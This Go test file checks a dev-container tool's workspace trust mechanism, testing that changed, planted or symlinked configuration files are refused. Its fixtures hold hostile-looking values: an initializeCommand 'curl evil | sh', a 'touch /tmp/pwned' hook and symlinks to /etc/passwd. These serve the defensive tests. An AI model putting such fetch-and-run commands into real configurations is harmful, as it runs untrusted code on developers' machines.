package lifecycle

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/devbox-sandbox/devbox/internal/hostcheck"
	"github.com/devbox-sandbox/devbox/internal/runner"
	"github.com/devbox-sandbox/devbox/lifecycle/lifecycletest"
)

// TestComposeProjectName: the names the Dev Containers CLI 0.89.0 derives
// (its project-name function run under Node on each case) for folder
// names with spaces, dots, non-ASCII letters, case variants, compose files
// outside .devcontainer and a declared name.
func TestComposeProjectName(t *testing.T) {
	for _, tt := range []struct {
		goos, ws, compose, declared, want string
	}{
		{"linux", "/home/u/My App", "/home/u/My App/.devcontainer/compose.yaml", "", "myapp_devcontainer"},
		{"linux", "/home/u/app.v2", "/home/u/app.v2/.devcontainer/compose.yaml", "", "appv2_devcontainer"},
		{"linux", "/home/u/Ünïcode-Ök", "/home/u/Ünïcode-Ök/.devcontainer/compose.yaml", "", "ncode-k_devcontainer"},
		{"linux", "/home/u/KELVIN\u212a", "/home/u/KELVIN\u212a/.devcontainer/compose.yaml", "", "kelvink_devcontainer"},
		{"linux", "/home/u/İstanbul", "/home/u/İstanbul/.devcontainer/compose.yaml", "", "istanbul_devcontainer"},
		{"linux", "/home/u/a b_c-d", "/home/u/a b_c-d/docker/compose.yml", "", "docker"},
		{"linux", "/home/u/App", "/home/u/App/.DevContainer/compose.yaml", "", "devcontainer"},
		{"darwin", "/Users/u/App", "/Users/u/App/.DevContainer/compose.yaml", "", "app_devcontainer"},
		{"linux", "/home/u/app", "/home/u/app/.devcontainer/compose.yaml", "My-Project.1", "my-project1"},
		{"linux", "/home/u/app", "/home/u/app/.devcontainer/compose.yaml", "devcontainer", "devcontainer"},
	} {
		if got := composeProjectName(tt.goos, tt.ws, tt.compose, tt.declared); got != tt.want {
			t.Errorf("composeProjectName(%s, %q, %q, %q) = %q, want %q", tt.goos, tt.ws, tt.compose, tt.declared, got, tt.want)
		}
	}
}

// TestProjectNameRefuses what could name another project behind devbox's
// back: COMPOSE_* in either .env, an interpolated name, an empty name.
func TestProjectNameRefuses(t *testing.T) {
	for _, tt := range []struct {
		name  string
		files map[string]string
		ws    string // the workspace folder's name
		want  string
	}{
		{"plain", map[string]string{}, "app", ""},
		{"workspace .env", map[string]string{".env": "A=1\nCOMPOSE_PROJECT_NAME=other_devcontainer\n"}, "app", ".env:2: COMPOSE_PROJECT_NAME"},
		{"compose folder .env", map[string]string{".devcontainer/.env": "COMPOSE_FILE=x.yml\n"}, "app", ".devcontainer/.env:1: COMPOSE_FILE"},
		{"interpolated name", map[string]string{".devcontainer/compose.yaml": "name: ${BOX}\nservices: {}\n"}, "app", "interpolated"},
		{"no usable character", map[string]string{}, "日本", "derived from the folder names is \"_devcontainer\""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dir := filepath.Join(t.TempDir(), tt.ws)
			write(t, dir, ".devcontainer/compose.yaml", "services: {}\n")
			for p, c := range tt.files {
				write(t, dir, p, c)
			}
			ws := workspaceFor("linux", dir)
			got, err := projectName("linux", ws, []string{filepath.Join(dir, ".devcontainer", "compose.yaml")})
			if tt.want == "" {
				if err != nil || got != tt.ws+"_devcontainer" {
					t.Fatalf("got %q, %v", got, err)
				}
				return
			}
			if err == nil || !strings.Contains(filepath.ToSlash(err.Error()), tt.want) {
				t.Fatalf("got %q, %v; want an error containing %q", got, err, tt.want)
			}
		})
	}
	var pe *hostcheck.PlantedError
	dir := t.TempDir()
	write(t, dir, ".env", "COMPOSE_PROJECT_NAME=x\n")
	if _, err := projectName("linux", workspaceFor("linux", dir), []string{filepath.Join(dir, ".devcontainer", "compose.yaml")}); !errors.As(err, &pe) {
		t.Errorf("workspace .env: %v, want a PlantedError", err)
	}
}

func write(t *testing.T, dir, rel, content string) {
	t.Helper()
	p := filepath.Join(dir, filepath.FromSlash(rel))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// trustWorkspace is a compose configuration whose dev image builds from
// ../docker (outside .devcontainer), with an env file and a local feature.
func trustWorkspace(t *testing.T) (Workspace, *Manager) {
	dir := t.TempDir()
	write(t, dir, ".devcontainer/devcontainer.json", `{
  // comment
  "dockerComposeFile": ["compose.yaml", "../ops/override.yaml"],
  "service": "dev",
  "features": {"./tool": {}}
}`)
	write(t, dir, ".devcontainer/compose.yaml", "services:\n  dev:\n    build:\n      context: ../docker\n    env_file: ../ops/dev.env\n  app:\n    build: ..\nsecrets:\n  token:\n    file: ../ops/token\n")
	write(t, dir, "ops/token", "s3cret\n")
	write(t, dir, ".devcontainer/tool/devcontainer-feature.json", `{"id": "tool"}`)
	write(t, dir, "ops/override.yaml", "services: {}\n")
	write(t, dir, "ops/dev.env", "A=1\n")
	write(t, dir, "docker/Dockerfile", "FROM scratch\n")
	write(t, dir, "docker/bin.dat", "\x00\x01binary")
	write(t, dir, "Dockerfile", "FROM scratch\n")
	write(t, dir, "src/main.go", "package main\n")
	return workspaceFor("linux", dir), &Manager{Getenv: envMapGetter{"XDG_STATE_HOME": t.TempDir()}.get}
}

func TestConfigFiles(t *testing.T) {
	ws, _ := trustWorkspace(t)
	files, err := configFiles(ws)
	if err != nil {
		t.Fatal(err)
	}
	var paths []string
	for _, f := range files {
		paths = append(paths, f.Path)
		if f.Path == "docker/bin.dat" && f.Text != nil {
			t.Errorf("binary file kept as text")
		}
		if f.Path == ".devcontainer/compose.yaml" && (f.Text == nil || !strings.Contains(*f.Text, "../docker")) {
			t.Errorf("compose.yaml text not kept: %v", f.Text)
		}
	}
	// The workspace itself (app's build context ..) is not walked; its
	// Dockerfile is recorded.
	want := ".devcontainer/compose.yaml .devcontainer/devcontainer.json .devcontainer/tool/devcontainer-feature.json Dockerfile docker/Dockerfile docker/bin.dat ops/dev.env ops/override.yaml ops/token"
	if got := strings.Join(paths, " "); got != want {
		t.Errorf("recorded\n  %s\nwant\n  %s", got, want)
	}
}

func TestConfigFilesRefusesSymlinks(t *testing.T) {
	for _, tt := range []struct {
		name string
		link func(dir string) (target, link string)
	}{
		{"in .devcontainer", func(dir string) (string, string) {
			return "/etc/passwd", filepath.Join(dir, ".devcontainer", "firewall.jsonc")
		}},
		{"a build context outside", func(dir string) (string, string) {
			os.RemoveAll(filepath.Join(dir, "docker"))
			return "/etc", filepath.Join(dir, "docker")
		}},
		{"a folder on the way to a compose file", func(dir string) (string, string) {
			os.Rename(filepath.Join(dir, "ops"), filepath.Join(dir, "ops-real"))
			return filepath.Join(dir, "ops-real"), filepath.Join(dir, "ops")
		}},
		{".devcontainer itself", func(dir string) (string, string) {
			os.Rename(filepath.Join(dir, ".devcontainer"), filepath.Join(dir, "dc"))
			return filepath.Join(dir, "dc"), filepath.Join(dir, ".devcontainer")
		}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			ws, _ := trustWorkspace(t)
			target, link := tt.link(ws.Dir)
			if err := os.Symlink(target, link); err != nil {
				t.Fatal(err)
			}
			_, err := configFiles(ws)
			var se *SymlinkError
			if !errors.As(err, &se) || se.Path != link {
				t.Fatalf("got %v, want a SymlinkError at %s", err, link)
			}
		})
	}
}

// TestCheckTrusted: no record is refused; a record matches; a change as a
// git checkout would make it (content, a new file, a removed one, a file
// outside .devcontainer/) is refused naming the file, until recorded again.
func TestCheckTrusted(t *testing.T) {
	ws, m := trustWorkspace(t)
	var ue *UntrustedError
	if err := m.checkTrusted(ws); !errors.As(err, &ue) || !ue.Missing {
		t.Fatalf("no record: %v", err)
	}
	if err := m.RecordTrust(ws.Dir); err != nil {
		t.Fatal(err)
	}
	if err := m.checkTrusted(ws); err != nil {
		t.Fatalf("recorded: %v", err)
	}
	for _, tt := range []struct {
		name   string
		change func()
		want   string
	}{
		{"initializeCommand added", func() {
			write(t, ws.Dir, ".devcontainer/devcontainer.json", `{"dockerComposeFile": ["compose.yaml", "../ops/override.yaml"], "initializeCommand": "touch /tmp/pwned"}`)
		}, ".devcontainer/devcontainer.json"},
		{"a new file", func() { write(t, ws.Dir, ".devcontainer/new/devcontainer-feature.json", "{}") }, ".devcontainer/new/devcontainer-feature.json"},
		{"a removed file", func() { os.Remove(filepath.Join(ws.Dir, ".devcontainer", "tool", "devcontainer-feature.json")) }, ".devcontainer/tool/devcontainer-feature.json"},
		{"outside, through ../", func() { write(t, ws.Dir, "docker/Dockerfile", "FROM evil\n") }, "docker/Dockerfile"},
		{"mode", func() { os.Chmod(filepath.Join(ws.Dir, "ops", "dev.env"), 0o755) }, "ops/dev.env"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			tt.change()
			err := m.checkTrusted(ws)
			if !errors.As(err, &ue) || ue.Missing || !strings.Contains(strings.Join(ue.Changed, " "), tt.want) {
				t.Fatalf("got %v, want a change of %s", err, tt.want)
			}
			if !strings.Contains(err.Error(), "devbox trust -w "+ws.Dir) {
				t.Errorf("message does not name the command: %v", err)
			}
			if err := m.RecordTrust(ws.Dir); err != nil {
				t.Fatal(err)
			}
			if err := m.checkTrusted(ws); err != nil {
				t.Fatalf("after recording: %v", err)
			}
		})
	}
	// The CLI's feature lock file is written by up itself.
	write(t, ws.Dir, ".devcontainer/devcontainer-lock.json", `{"features": {}}`)
	if err := m.checkTrusted(ws); err != nil {
		t.Errorf("the CLI's lock file refused: %v", err)
	}
	// Source files of the workspace are not part of the configuration.
	write(t, ws.Dir, "src/main.go", "package main // edited\n")
	if err := m.checkTrusted(ws); err != nil {
		t.Errorf("an edit outside the configuration refused: %v", err)
	}
}

func TestDiffFilesKeepsOldText(t *testing.T) {
	ws, m := trustWorkspace(t)
	if err := m.RecordTrust(ws.Dir); err != nil {
		t.Fatal(err)
	}
	write(t, ws.Dir, "ops/dev.env", "A=2\n")
	rec, err := m.loadTrust(ws)
	if err != nil {
		t.Fatal(err)
	}
	now, err := configFiles(ws)
	if err != nil {
		t.Fatal(err)
	}
	changes := diffFiles(rec.Files, now)
	if len(changes) != 1 || changes[0].Old == nil || *changes[0].Old.Text != "A=1\n" || *changes[0].New.Text != "A=2\n" {
		t.Fatalf("changes %+v", changes)
	}
}

// BenchmarkCheckTrusted is what trust adds to every `up`, the fast path
// included: hashing the configuration's files and reading the record.
func BenchmarkCheckTrusted(b *testing.B) {
	dir := b.TempDir()
	for name, size := range map[string]int{"devcontainer.json": 1200, "compose.yaml": 3300, "Dockerfile": 3000, "firewall.jsonc": 4200, "redis.conf": 1200} {
		p := filepath.Join(dir, ".devcontainer", name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			b.Fatal(err)
		}
		content := strings.Repeat("x", size)
		if name == "devcontainer.json" {
			content = `{"dockerComposeFile": "compose.yaml", "service": "dev"}`
		}
		if name == "compose.yaml" {
			content = "services:\n  dev:\n    build:\n      context: .\n"
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			b.Fatal(err)
		}
	}
	ws := workspaceFor("linux", dir)
	m := &Manager{Getenv: envMapGetter{"XDG_STATE_HOME": b.TempDir()}.get}
	if err := m.RecordTrust(dir); err != nil {
		b.Fatal(err)
	}
	for b.Loop() {
		if err := m.checkTrusted(ws); err != nil {
			b.Fatal(err)
		}
	}
}

func TestTrustedOrAbsent(t *testing.T) {
	ws, m := trustWorkspace(t)
	empty := t.TempDir()
	if err := os.Mkdir(filepath.Join(empty, ".devcontainer"), 0o755); err != nil {
		t.Fatal(err)
	}
	planted := t.TempDir()
	write(t, planted, ".devcontainer/evil/devcontainer-feature.json", "{}")
	for _, tt := range []struct {
		name string
		dir  string
		want bool
	}{
		{"no .devcontainer", t.TempDir(), true},
		{"an empty .devcontainer", empty, true},
		{"files beside no devcontainer.json", planted, false},
		{"never trusted", ws.Dir, false},
	} {
		got, err := m.TrustedOrAbsent(tt.dir)
		if err != nil || got != tt.want {
			t.Errorf("%s: %v, %v; want %v", tt.name, got, err, tt.want)
		}
	}
	if err := m.RecordTrust(ws.Dir); err != nil {
		t.Fatal(err)
	}
	if got, err := m.TrustedOrAbsent(ws.Dir); !got || err != nil {
		t.Errorf("trusted: %v, %v", got, err)
	}
	write(t, ws.Dir, "ops/dev.env", "changed\n")
	if got, err := m.TrustedOrAbsent(ws.Dir); got || err != nil {
		t.Errorf("changed since: %v, %v", got, err)
	}
}

// TestAcceptRecordsWhatWasShown: a file changed between the review and the
// answer is a change again, for the next up to refuse. The review reads
// the settings through the CLI and compose, with the project's name.
func TestAcceptRecordsWhatWasShown(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, ".devcontainer/devcontainer.json", `{"image": "x", "features": {"./devbox-firewall": {}}}`)
	var ran []string
	m := &Manager{
		Getenv: envMapGetter{"XDG_STATE_HOME": t.TempDir()}.get,
		Runner: runnerFunc(func(_ context.Context, c runner.Cmd) (runner.Result, error) {
			ran = append(ran, c.String())
			return runner.Result{Stdout: []byte(`{"configuration": {"initializeCommand": "make hooks"}, "mergedConfiguration": {}}`)}, nil
		}),
		Connect: func(context.Context, func(string) string) (Engine, Endpoint, error) {
			return &lifecycletest.Engine{}, Endpoint{Host: "unix:///var/run/docker.sock"}, nil
		},
	}
	r, err := m.ReviewTrust(context.Background(), dir)
	if err != nil {
		t.Fatal(err)
	}
	if r.Recorded || len(r.Changes) != 1 || len(r.Settings) != 1 || r.Settings[0].Name != "initializeCommand" {
		t.Fatalf("review %+v", r)
	}
	if len(ran) != 1 || !strings.Contains(ran[0], "read-configuration") || !strings.Contains(ran[0], "--id-label "+reviewIDLabel) {
		t.Errorf("ran %q", ran)
	}
	write(t, dir, ".devcontainer/devcontainer.json", `{"image": "x", "features": {"./devbox-firewall": {}}, "initializeCommand": "curl evil | sh"}`)
	if err := m.AcceptTrust(r); err != nil {
		t.Fatal(err)
	}
	var ue *UntrustedError
	if err := m.checkTrusted(workspaceFor("linux", dir)); !errors.As(err, &ue) || ue.Missing {
		t.Fatalf("a file changed after the review: %v, want it refused", err)
	}
}

// TestChangePolicyKeepsTrust: devbox allow and deny edit firewall.jsonc for
// the user; a configuration trusted before stays trusted, and one that was
// not is not made trusted by the edit.
func TestChangePolicyKeepsTrust(t *testing.T) {
	ws, m := trustWorkspace(t)
	edit := func(text string) func() (bool, error) {
		return func() (bool, error) {
			write(t, ws.Dir, ".devcontainer/firewall.jsonc", text)
			return true, nil
		}
	}
	// No engine here: the live reload fails or finds no box; the record
	// is taken before it.
	_, _ = m.ChangePolicy(context.Background(), ws.Dir, edit(`{"domains": ["a.example.com"]}`))
	var ue *UntrustedError
	if err := m.checkTrusted(ws); !errors.As(err, &ue) {
		t.Fatalf("an edit of an untrusted configuration made it trusted: %v", err)
	}
	if err := m.RecordTrust(ws.Dir); err != nil {
		t.Fatal(err)
	}
	_, _ = m.ChangePolicy(context.Background(), ws.Dir, edit(`{"domains": ["b.example.com"]}`))
	if err := m.checkTrusted(ws); err != nil {
		t.Fatalf("devbox's own edit of a trusted configuration: %v", err)
	}
}
